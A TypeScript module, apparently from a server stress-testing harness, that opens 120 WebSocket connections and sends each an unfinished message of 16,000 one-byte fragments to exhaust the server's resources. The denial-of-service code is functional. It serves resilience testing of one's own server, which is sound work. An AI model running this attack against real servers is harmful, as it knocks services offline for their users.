/** Attack: WebSocket messages in fragments of one byte that never end. */
import type { Attack } from "../attack.ts";
import { type AttackSocket, keepConnections, tallyFigures } from "../connections.ts";

const CONNECTIONS = 120;
const FRAGMENTS = 16_000;

const UPGRADE =
  "GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" +
  "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
/** Masked frames with one space: the first of a text, and one that continues it (RFC 6455, section 5.2). */
const FIRST = Buffer.from([0x01, 0x81, 0, 0, 0, 0, 0x20]);
const NEXT = Buffer.from([0x00, 0x81, 0, 0, 0, 0, 0x20]);

/** WebSocket messages of one byte a fragment that never end. */
export const attack: Attack = {
  summary: `${CONNECTIONS} WebSocket messages of ${FRAGMENTS} fragments of one byte, never ended`,
  run: async ({ wsPort: port }, signal) => {
    const message = Buffer.concat([FIRST, Buffer.alloc(NEXT.length * (FRAGMENTS - 1), NEXT)]);
    const use = async ({ write, answer }: AttackSocket) => {
      await write(UPGRADE);
      await answer();
      await write(message);
    };
    return tallyFigures(await keepConnections({ port, count: CONNECTIONS, signal, use }));
  },
};
